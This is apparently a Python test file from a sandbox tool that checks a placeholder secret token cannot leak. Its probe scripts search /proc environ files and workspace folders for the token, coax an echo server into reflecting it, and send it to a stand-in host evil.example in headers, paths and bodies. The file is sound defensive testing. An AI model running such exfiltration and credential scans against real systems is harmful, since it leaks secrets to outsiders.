"""X for a box that has a placeholder: it is used where it belongs, and the value is got at nowhere."""

from __future__ import annotations

from ringfence.core.box import NetworkRule
from ringfence.doctor.case import Case, Trial, claimed
from ringfence.doctor.cases.egress import PROXY, SHARED
from ringfence.doctor.fake_internet import TOKEN
from ringfence.doctor.judging import answered, network_denied

_BOTH = (NetworkRule("both", ("allowed.example:80", "allowed.example:443", "evil.example:80", "evil.example:443")),)

_SAFELY = (
    PROXY
    + f"""
token = os.environ[{TOKEN!r}]
def whole(way):
    way.settimeout(a_while(20))  # it is closed after the answer, which a busy machine is slow to give
    answer = b""
    try:
        while more := way.recv(65536):
            answer += more
    except OSError:
        pass
    return answer
def plainly(method, url, *headers, body=""):
    host = url.partition("//")[2].partition("/")[0]
    return ask("\\r\\n".join([f"{{method}} {{url}} HTTP/1.1", "Host: " + host, *headers, "", body]))
def safely(line, *headers, body=b"", host="allowed.example"):
    out, answer = connect(host + ":443")
    with trusting().wrap_socket(out, server_hostname=host) as safe:
        head = "\\r\\n".join([line + " HTTP/1.1", "Host: " + host, *headers, "Connection: close", "", ""])
        safe.sendall(head.encode() + body)
        return whole(safe)
"""
)


def arrived(trial: Trial) -> str | None:
    """The value itself arrived outside, where only the placeholder was sent."""
    outside = trial.props.outside
    assert outside is not None
    return "the value arrived outside" if outside.token.encode() in outside.got else claimed(trial)


def shown(trial: Trial) -> str | None:
    """The program was shown the value, in a form that can be read."""
    outside = trial.props.outside
    assert outside is not None
    said = trial.report.stdout.head + trial.report.stdout.tail
    found = any(form in said for form in (outside.token.encode(), outside.token.encode().hex().encode()))
    return "it has the value" if found else claimed(trial)


def not_used(trial: Trial) -> str | None:
    """The server outside got the value with the request that may have it; else the case shows nothing."""
    outside = trial.props.outside
    assert outside is not None
    wanted = f"Authorization: Bearer {outside.token}".encode()
    return None if wanted in outside.got else "the server did not get the value"


CASES = (
    Case(
        "X50",
        "use a token, and find its value in one's memory, environment and files",
        "nowhere: the box has a placeholder, and the server gets the value",
        _SAFELY
        + """
answer = safely("GET /ok", "Authorization: Bearer " + token)
start, end = b"brok", b"ered-"
places = [memory_of("self", start, end)]
paths = [f"/proc/{pid}/{name}" for pid in os.listdir("/proc") if pid.isdigit() for name in ("environ", "cmdline")]
paths += [f"{folder}/{name}" for top in ("/workspace", "/run") for folder, _, names in os.walk(top) for name in names]
for path in paths:
    try:
        with open(path, "rb") as file:
            places.append(path if start + end in file.read() else "")
    except OSError:
        pass
found = ", ".join(filter(None, places))
say(bool(found), found or code(answer))
""",
        owed=(not_used, answered("200")),
        network=_BOTH,
        secret=True,
        control=SHARED,
    ),
    Case(
        "X51",
        "have the host that it is for tell it: in a body, in a header, in a piece of either, compressed",
        "what the host echoes is removed before the box has it",
        _SAFELY
        + """
import zlib
mine = "Authorization: Bearer " + token
def body(answer):
    head, _, rest = answer.partition(b"\\r\\n\\r\\n")
    if b"chunked" not in head:
        return rest
    whole = b""
    while rest:
        size, _, rest = rest.partition(b"\\r\\n")
        whole, rest = whole + rest[:int(size, 16)], rest[int(size, 16) + 2:]
    return whole
answers = [safely("GET /echo", mine), safely("HEAD /echo", mine), safely("GET /echo?hex", mine)]
pieces = [body(safely("GET /echo", mine, f"Range: bytes={at:03}-{at + 24:03}")) for at in range(0, 225, 25)]
packed = safely("GET /echo?gzip", mine, "Accept-Encoding: gzip")
try:
    opened = zlib.decompress(body(packed), 31)
except zlib.error:
    opened = b""
print(b"\\n".join([*answers, b"".join(pieces), opened]).decode("latin-1"))
say(False, ", ".join(map(code, [*answers, packed])))
""",
        shown,
        owed=(not_used, answered("200")),
        network=_BOTH,
        secret=True,
        control=SHARED,
    ),
    Case(
        "X52",
        "send it to another host, in a header, in the path, in a body",
        "403: what stands for it goes to its own hosts alone",
        _SAFELY
        + """
answers = [plainly("GET", "http://evil.example/", "Authorization: Bearer " + token),
           plainly("GET", "http://evil.example/" + token),
           plainly("POST", "http://evil.example/", f"Content-Length: {len(token)}", body=token),
           code(safely("GET /", "Authorization: Bearer " + token, host="evil.example"))]
say("200" in answers, ", ".join(answers))
""",
        arrived,
        owed=(answered("403, 403, 403, 403"), network_denied("both")),
        network=_BOTH,
        secret=True,
        control=SHARED,
    ),
    Case(
        "X53",
        "send it to its own host elsewhere than in its header: path, cookie, another header, body",
        "403",
        _SAFELY
        + """
size = f"Content-Length: {len(token)}"
answers = [safely("GET /" + token), safely("GET /", "Cookie: " + token), safely("GET /", "X-Copy: " + token),
           safely("POST /", size, body=token.encode())]
answers = [code(answer) for answer in answers]
say("200" in answers, ", ".join(answers))
""",
        arrived,
        owed=(answered("403, 403, 403, 403"), network_denied("both")),
        network=_BOTH,
        secret=True,
        control=SHARED,
    ),
    Case(
        "X54",
        "use it with a method that it is not for, also by a header that overrides the method",
        "403",
        _SAFELY
        + """
mine = "Authorization: Bearer " + token
answers = [safely("DELETE /x", mine), safely("POST /x", mine, "Content-Length: 0"),
           safely("GET /x", mine, "X-HTTP-Method-Override: DELETE")]
say(False, ", ".join(map(code, answers)))
""",
        arrived,
        owed=(answered("403, 403, 403"), network_denied("both")),
        network=_BOTH,
        secret=True,
        control=SHARED,
    ),
    Case(
        "X55",
        "have it sent in clear",
        "403: it goes over TLS alone",
        _SAFELY
        + """
answer = plainly("GET", "http://allowed.example/", "Authorization: Bearer " + token)
say(False, answer)
""",
        arrived,
        owed=(answered("403"), network_denied("both")),
        network=_BOTH,
        secret=True,
        control=SHARED,
    ),
)
